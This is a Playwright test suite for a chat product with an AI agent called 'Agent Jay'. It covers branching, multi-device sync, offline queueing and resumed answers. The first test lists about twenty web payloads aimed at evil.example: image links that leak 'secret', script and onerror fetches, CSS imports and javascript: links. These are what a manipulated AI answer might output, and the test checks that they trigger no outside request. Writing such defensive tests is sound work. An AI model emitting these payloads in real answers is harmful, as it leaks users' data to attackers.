import type { Browser, BrowserContext, Page } from '@playwright/test';
import { cut, heal } from '../support/cut-network.ts';
import { anotherTab, askAgentJay, composer, log, say, signInAsGuest } from '../support/people.ts';
import { type Product, startProduct } from '../support/product.ts';
import { type Script, type ScriptedModel, startScriptedModel } from '../support/scripted-model.ts';
import { expect, test as story } from '../support/story.ts';

interface Asked {
  model: ScriptedModel;
  product: Product;
  context: BrowserContext;
  page: Page;
}

/** A guest in a conversation with Agent Jay, whose words a test decides. */
async function withModel(
  browser: Browser,
  script: Script,
  tell: (asked: Asked) => Promise<void>,
): Promise<void> {
  const model = await startScriptedModel(script);
  const { apiKey, baseUrl, model: name } = model.settings;
  const product = await startProduct({
    env: { OPENAI_API_KEY: apiKey, OPENAI_BASE_URL: baseUrl, OPENAI_MODEL: name },
  });
  const context = await browser.newContext({ baseURL: product.url });
  try {
    const page = await context.newPage();
    await signInAsGuest(page);
    await askAgentJay(page);
    await tell({ model, product, context, page });
  } finally {
    await context.close();
    await product.stop();
    await model.close();
  }
}

const answers = (page: Page) => page.getByRole('article', { name: "Agent Jay's answer" });
const saysNumber: Script = { onAnswer: (call, n) => call.say(`Answer number ${n}.`).finish() };

/** What an answer could be talked into showing, so that it tells another site something. */
const TRICKS = [
  '![a](https://evil.example/1.png?q=secret)',
  '[![a](https://evil.example/2.png)](https://evil.example/2)',
  '![a][ref]\n\n[ref]: https://evil.example/3.png',
  '<img src="https://evil.example/4.png" srcset="https://evil.example/4b.png 2x">',
  '<img src=x onerror="fetch(\'https://evil.example/5\')">',
  '<script>fetch("https://evil.example/6")</script>',
  '<iframe src="https://evil.example/7"></iframe><object data="https://evil.example/7b"></object>',
  '<style>@import "https://evil.example/8.css"; body { background: url(https://evil.example/8.png) }</style>',
  '<div style="background:url(https://evil.example/9.png)">a</div>',
  '<link rel="stylesheet" href="https://evil.example/10.css"><link rel="prefetch" href="https://evil.example/10">',
  '<video src="https://evil.example/11.mp4" poster="https://evil.example/11.png" autoplay></video>',
  '<svg><image href="https://evil.example/12.png"/><use href="https://evil.example/12.svg#a"/></svg>',
  '<form action="https://evil.example/13"><input type="image" src="https://evil.example/13.png"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/14">',
  '[click](https://evil.example/15?q=secret) <https://evil.example/16> https://evil.example/17',
  '[js](javascript:fetch("https://evil.example/18")) [data](data:text/html,<script>1</script>)',
  '```mermaid\ngraph TD; A["<img src=https://evil.example/19.png>"] --> B;\nclick A "https://evil.example/19"\n```',
  '$$\\includegraphics{https://evil.example/20.png}$$',
  '![a](//evil.example/21.png) ![b](http://evil.example/21b.png)',
];

story('an answer causes no request to anybody, whatever it was talked into', async ({ browser }) => {
  const script: Script = {
    onAnswer: (call) => call.say(...TRICKS.flatMap((trick) => [`${trick}\n\n`]), 'The end.').finish(),
  };
  await withModel(browser, script, async ({ context, page, product }) => {
    const foreign: string[] = [];
    const isOurs = (url: string) => url.startsWith(product.url) || /^(data|blob):/.test(url);
    context.on('request', (request) => {
      if (!isOurs(request.url())) foreign.push(request.url());
    });
    await say(page, 'Show me');
    await expect(answers(page)).toContainText('The end.');
    await page.reload();
    await expect(answers(page)).toContainText('The end.');
    // Whatever the page would ask for is asked for once it is drawn.
    await page.evaluate(
      () => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn))),
    );
    expect(foreign).toEqual([]);
    const targets = await answers(page)
      .locator('a')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    expect(targets.filter((href) => href?.includes('evil.example'))).toEqual([]);
    expect(await answers(page).locator('img, iframe, video, object, form, style, script').count()).toBe(0);
  });
});

story(
  'a question in other words opens a branch; both are kept, and all devices show the same',
  async ({ browser }) => {
    await withModel(browser, saysNumber, async ({ context, page, product, model }) => {
      await say(page, 'First question');
      await expect(answers(page)).toContainText('Answer number 1.');
      await say(page, 'And then?');
      await expect(answers(page).last()).toContainText('Answer number 2.');
      const elsewhere = await browser.newContext({
        baseURL: product.url,
        storageState: await context.storageState(),
      });
      const phone = await elsewhere.newPage();
      await phone.goto(new URL(page.url()).pathname);
      await expect(log(phone)).toContainText('And then?');

      const question = page.getByText('First question', { exact: true });
      await question.hover();
      await page.getByRole('button', { name: 'More actions' }).first().click();
      await page.getByRole('menuitem', { name: 'Edit', exact: true }).click();
      await composer(page).fill('First question, better');
      await composer(page).press('Enter');
      for (const device of [page, phone]) {
        await expect(log(device)).toContainText('Answer number 3.');
        await expect(log(device)).not.toContainText('And then?');
        await expect(log(device)).toContainText('2/2');
      }
      await phone.getByRole('button', { name: 'Earlier version' }).first().click();
      for (const device of [page, phone]) {
        await expect(log(device)).toContainText('And then?');
        await expect(log(device)).not.toContainText('Answer number 3.');
      }
      expect(model.answers).toHaveLength(3);
      await elsewhere.close();
    });
  },
);

story('two tabs that both ask for another answer get one, with one call', async ({ browser }) => {
  await withModel(browser, saysNumber, async ({ context, page, model }) => {
    await say(page, 'Once?');
    await expect(answers(page)).toContainText('Answer number 1.');
    const tab = await anotherTab(context, new URL(page.url()).pathname);
    await expect(answers(tab)).toContainText('Answer number 1.');
    const again = (one: Page) => one.getByRole('button', { name: 'Write again' }).dblclick();
    await Promise.all([again(page), again(tab)]);
    for (const one of [page, tab]) await expect(answers(one)).toContainText('Answer number 2.');
    await expect(page.getByText(/changes? (will be sent|was refused|were refused)/)).toHaveCount(0);
    expect(model.answers).toHaveLength(2);
  });
});

story('three questions asked with no network are three answers in their order (M4)', async ({ browser }) => {
  await withModel(browser, { onAnswer: () => {} }, async ({ page, model }) => {
    await expect(composer(page)).toBeVisible();
    await cut(page);
    for (const question of ['One?', 'Two?', 'Three?']) await say(page, question);
    await expect(log(page)).toContainText('Three?');
    await expect(page.getByText('3 changes will be sent').first()).toBeVisible();
    await heal(page);
    const first = await model.asked(1);
    await expect(page.getByRole('img', { name: 'Waiting for the network' })).toHaveCount(0);
    await cut(page);
    first.say('Re: One?').finish();
    for (const n of [2, 3]) {
      const call = await model.asked(n);
      call.say(`Re: ${call.lastWords}`).finish();
    }
    await heal(page);
    await expect(answers(page)).toHaveCount(3);
    await expect(answers(page).nth(2)).toContainText('Re: Three?');
    expect(model.answers.map((call) => call.lastWords)).toEqual(['One?', 'Two?', 'Three?']);
  });
});

story('an answer that is stopped on one device goes on from there on another', async ({ browser }) => {
  const script: Script = {
    onAnswer(call, n) {
      if (n === 1) call.say('The first half');
      else call.say(', and the second.').finish();
    },
  };
  await withModel(browser, script, async ({ context, page, product, model }) => {
    await say(page, 'Everything?');
    await expect(answers(page)).toContainText('The first half');
    const elsewhere = await browser.newContext({
      baseURL: product.url,
      storageState: await context.storageState(),
    });
    const phone = await elsewhere.newPage();
    await phone.goto(new URL(page.url()).pathname);
    await expect(answers(phone)).toContainText('The first half');
    await phone.getByRole('button', { name: 'Stop' }).click();
    await model.answers[0]?.closed;
    await page.getByRole('button', { name: 'Continue' }).click();
    for (const device of [page, phone])
      await expect(answers(device)).toContainText('The first half, and the second.');
    expect(model.answers).toHaveLength(2);
    await elsewhere.close();
  });
});
